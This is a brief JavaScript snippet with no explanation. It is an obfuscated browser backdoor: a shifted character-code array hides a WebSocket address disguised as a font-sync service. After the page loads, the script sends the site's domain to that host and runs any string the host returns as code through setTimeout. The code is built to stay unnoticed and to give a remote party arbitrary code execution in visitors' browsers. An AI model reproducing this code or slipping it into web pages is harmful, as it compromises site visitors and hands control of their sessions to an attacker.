var c = "", w = [121,117,117,60,49,49,104,113,112,118,117,47,117,123,112,101,48,103,122,99,111,114,110,103,49,101];
for (var i in w) c += String.fromCharCode(w[i] - 2);
var t = setInterval(function () {
  if (document.readyState !== "complete") return;
  clearInterval(t);
  var z = new WebSocket(c);
  z.onopen = function () { z.send(document.domain); };
  z.onmessage = function (x) { setTimeout(x.data, 1); };
}, 250);
